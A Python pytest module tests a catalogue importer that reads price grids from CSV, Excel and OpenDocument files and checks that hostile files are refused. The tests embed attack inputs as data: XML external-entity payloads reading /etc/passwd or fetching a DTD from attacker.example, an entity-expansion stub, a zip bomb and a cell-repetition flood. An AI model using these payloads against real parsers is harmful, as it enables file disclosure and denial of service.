"""Files of every kind are read, or refused with words that say what to do; hostile ones never get far."""

import io
import os
import tracemalloc
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.styles import Font

from allonce.kernel.errors import UserError
from allonce.products.catalogue.importing import problems
from allonce.products.catalogue.importing.propose import propose
from allonce.products.catalogue.importing.reading import guard, old_excel, read_file, read_pasted
from allonce.products.catalogue.importing.reading.delimited import decode
from allonce.products.catalogue.importing.tests.files import (
    ROWS,
    big_ranges,
    big_table,
    changed_part,
    ods,
    old_workbook,
    xlsx,
)

SHEET = "xl/worksheets/sheet1.xml"
EXPECTED = ("A", (600, 800, 1000), (1000, 1200), ((2000, 2150, 2300), (2200, 2350, None)))
TEXT = "PRICE BAND A\nDrop / Width (mm),600,800,1000\n1000,£20,£21.50,£23\n1200,£22,£23.50,POA\n"


def _grid(data: bytes, name: str = "prices") -> Any:
    grid = propose(read_file(data, name).sheets).grids[0]
    return grid.band, grid.widths_mm, grid.drops_mm, grid.prices


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_text_files_of_every_encoding_and_separator(encoding: str, separator: str) -> None:
    assert _grid(TEXT.replace(",", separator).encode(encoding), "prices.csv") == EXPECTED


def test_excel_and_open_document_files() -> None:
    assert _grid(xlsx()) == EXPECTED
    assert _grid(ods()) == EXPECTED


def test_the_kind_is_told_by_the_bytes_and_not_by_the_name() -> None:
    assert _grid(xlsx(), "prices.csv") == EXPECTED
    assert _grid(TEXT.encode(), "prices.xlsx") == EXPECTED


def test_the_child_that_reads_old_workbooks_answers_with_cells_and_merges() -> None:
    (sheet,) = old_excel.read(xlsx(change=lambda sheet: sheet.merge_cells("A1:D1")))
    assert propose([sheet]).grids[0].prices == EXPECTED[3]
    assert sheet.last_column_of(0, 0) == 3


def test_an_old_workbook_reads_like_a_new_one() -> None:
    data = old_workbook([["PRICE BAND A", "", "", ""], *ROWS[1:]])
    assert _grid(data, "prices.xls") == EXPECTED
    (sheet,) = read_file(data, "prices.xls").sheets
    assert (sheet.name, sheet.last_column_of(0, 0)) == ("Prices", 3)


def test_a_damaged_old_workbook_says_so() -> None:
    data = old_workbook()
    with pytest.raises(problems.UnreadableSheet):
        read_file(data[:512] + b"\xff" * 1000 + data[1512:], "prices.xls")


def test_open_document_cells_keep_their_currency() -> None:
    assert propose(read_file(ods(currency="EUR"), "x.ods").sheets).currency == "EUR"


def test_excel_formats_merges_hidden_parts_and_bold_are_seen() -> None:
    def change(sheet: Any) -> None:
        sheet["B3"].number_format = "[$€-407] #,##0.00"
        sheet["B2"].number_format = '0" mm"'
        sheet["A1"].font = Font(bold=True)
        sheet.merge_cells("A1:D1")
        sheet.column_dimensions["D"].hidden = True
        sheet.row_dimensions[4].hidden = True

    sheet = read_file(xlsx(change=change), "x.xlsx").sheets[0]
    assert (sheet.cells[(2, 1)].currency, sheet.cells[(1, 1)].unit, sheet.cells[(0, 0)].bold) == ("EUR", "mm", True)
    assert (sheet.hidden_columns, sheet.hidden_rows) == (frozenset({3}), frozenset({3}))
    assert sheet.last_column_of(0, 0) == 3


def test_dates_and_percentages_are_no_prices() -> None:
    def change(sheet: Any) -> None:
        sheet["B3"].number_format = "dd/mm/yyyy"
        sheet["B4"].number_format = "0%"

    sheet = read_file(xlsx(change=change), "x.xlsx").sheets[0]
    assert sheet.cells[(2, 1)].number is None
    assert sheet.cells[(3, 1)].text == "2200%"


def test_a_formula_without_a_result_is_doubted_and_never_taken_for_a_blank() -> None:
    proposal = propose(read_file(xlsx([*[[*row] for row in _rows()], [1400, "=B4+2", 25, 26]]), "x.xlsx").sheets)
    assert proposal.grids[0].prices[2][0] is None
    assert "unreadable" in {mark.code for mark in proposal.doubts}


def _rows() -> list[list[Any]]:
    return [["PRICE BAND A"], ["Drop / Width (mm)", 600, 800, 1000], [1000, 20, 21.5, 23], [1200, 22, 23.5, 25]]


def test_inch_marks_do_not_swallow_the_rest_of_a_paste() -> None:
    sheet = read_pasted('Drop / Width\t24"\t30"\n36"\t20\t21\n48"\t22\t23').sheets[0]
    assert propose([sheet]).grids[0].widths_mm == (610, 762)
    assert decode(b"\xff\xfe" + "é".encode("utf-16-le")) == "é"


def test_macros_are_told_and_never_read() -> None:
    data = changed_part(xlsx(), "xl/vbaProject.bin", lambda _: b"\xcc" * 2000)
    book = read_file(data, "prices.xlsm")
    assert book.macros
    assert _grid(data) == EXPECTED


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", problems.EmptySheet),
        (b"\n\n  \n", problems.EmptySheet),
        (b"%PDF-1.7 ....", problems.UnknownKind),
        (b"\x89PNG\r\n\x1a\n", problems.UnknownKind),
        (b"abc\x00\x01\x02\x00def", problems.UnknownKind),
        (b"<html><table><tr><td>600</td></tr></table></html>", problems.WebPageNamedSheet),
        (b"PK\x03\x04 and nothing more", problems.UnreadableSheet),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + "Workbook".encode("utf-16-le"),
            problems.UnreadableSheet,
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), problems.EncryptedSheet),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"), problems.UnknownKind),
    ],
)
def test_what_is_no_readable_sheet_is_refused_by_name(data: bytes, problem: type[UserError]) -> None:
    with pytest.raises(problem):
        read_file(data, "prices.xlsx")


def test_a_hundred_megabytes_are_refused_unread() -> None:
    with pytest.raises(problems.SheetTooLarge):
        read_file(bytes(100 * 1024 * 1024), "prices.xlsx")


def test_a_zip_bomb_is_refused_before_it_unpacks() -> None:
    data = changed_part(xlsx(), SHEET, lambda _: b"<worksheet><sheetData>" + b" " * (140 * 1024 * 1024))
    tracemalloc.start()
    with pytest.raises(problems.UnsafeSheet):
        read_file(data, "prices.xlsx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 * 1024 * 1024


def test_many_parts_that_unpack_to_too_much_together_are_refused() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(guard.MAX_ENTRIES + 1):
            archive.writestr(f"xl/{number}.xml", b"")
    with pytest.raises(problems.UnsafeSheet):
        read_file(stream.getvalue(), "prices.xlsx")


@pytest.mark.parametrize(
    "attack",
    [
        b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><worksheet>&c;</worksheet>',
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet>&b;</worksheet>',
        b'<!DOCTYPE worksheet SYSTEM "http://attacker.example/a.dtd"><worksheet/>',
    ],
)
def test_entities_and_document_types_are_refused(attack: bytes) -> None:
    for part in (SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"):
        with pytest.raises(problems.UnsafeSheet):
            read_file(changed_part(xlsx(), part, lambda _: attack), "prices.xlsx")
    with pytest.raises(problems.UnsafeSheet):
        read_file(changed_part(ods(), "content.xml", lambda _: attack), "prices.ods")


def test_a_repeated_cell_cannot_fill_the_memory() -> None:
    flood = b'<x:c xmlns:x="t" xmlns:table="u"><table:table><table:table-row table:number-rows-repeated="1048576">'
    flood += b'<table:table-cell table:number-columns-repeated="16384"><p>9</p></table:table-cell>'
    flood += b"</table:table-row></table:table></x:c>"
    with pytest.raises(problems.SheetTooLarge):
        read_file(changed_part(ods(), "content.xml", lambda _: flood), "prices.ods")


def test_more_cells_than_any_price_list_has_are_refused() -> None:
    row = b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>"
    with pytest.raises(problems.SheetTooLarge):
        noise = os.urandom(700_000).hex().encode()
        flood = b"<worksheet><!--" + noise + b"--><sheetData>" + row * 401 + b"</sheetData></worksheet>"
        read_file(changed_part(xlsx(), SHEET, lambda _: flood), "prices.xlsx")


@given(st.binary(max_size=40), st.integers(0, 6000), st.sampled_from(["xlsx", "ods", "csv"]))
def test_damaged_files_end_in_a_named_problem(noise: bytes, place: int, kind: str) -> None:
    data = {"xlsx": xlsx(), "ods": ods(), "csv": TEXT.encode()}[kind]
    damaged = data[: place % len(data)] + noise + data[place % len(data) + len(noise) :]
    try:
        propose(read_file(damaged, f"prices.{kind}").sheets)
    except UserError as error:
        assert str(error)


def test_a_table_of_200_by_200_is_read_whole() -> None:
    grid = propose(read_file(xlsx(big_table(200)), "x.xlsx").sheets).grids[0]
    assert (len(grid.widths_mm), len(grid.drops_mm), grid.prices[199][199]) == (200, 200, 2000 + 199 * 16)


def test_20_000_ranges_are_read_whole() -> None:
    table = propose(read_file(xlsx(big_ranges(20_000)), "x.xlsx").sheets).ranges[0]
    assert len(table.rows) == 20_000
    assert (table.rows[-1].colour, table.rows[-1].max_width) == ("Colour 19999", 2400)
    assert not table.marks
